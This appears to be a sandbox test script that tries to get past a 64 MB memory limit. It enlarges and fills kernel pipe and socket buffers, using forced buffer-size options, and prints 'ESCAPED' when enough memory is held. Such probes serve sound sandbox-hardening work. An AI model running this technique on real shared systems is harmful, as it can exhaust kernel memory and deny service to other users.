"""Fills the buffers of pipes and sockets, which are memory of the kernel.

Escape: many times memory_mb in buffers
Control: a pipe takes some data
Limits: memory_mb=64, wall_s=8
"""

# control
import os

reader, writer = os.pipe()
os.write(writer, b"x" * 1000) == 1000

# attack
import fcntl
import socket

held = 0
ends = []
try:
    for i in range(1000):
        if i % 2:
            made = os.pipe()
            try:
                fcntl.fcntl(made[1], 1031, 1 << 20)
            except OSError:
                pass
        else:
            pair = socket.socketpair()
            for option in (socket.SO_SNDBUF, 32, 33):
                try:
                    pair[1].setsockopt(socket.SOL_SOCKET, option, 64 << 20)
                    print("ESCAPED: a buffer of 64 MB")
                except OSError:
                    pass
            made = [end.detach() for end in pair]
        ends.append(made)
        os.set_blocking(made[1], False)
        try:
            while True:
                held += os.write(made[1], bytes(1 << 16))
        except BlockingIOError:
            pass
except OSError as error:
    print(error.strerror)
f"ESCAPED: {held >> 20} MB" if held > 256 << 20 else held >> 20
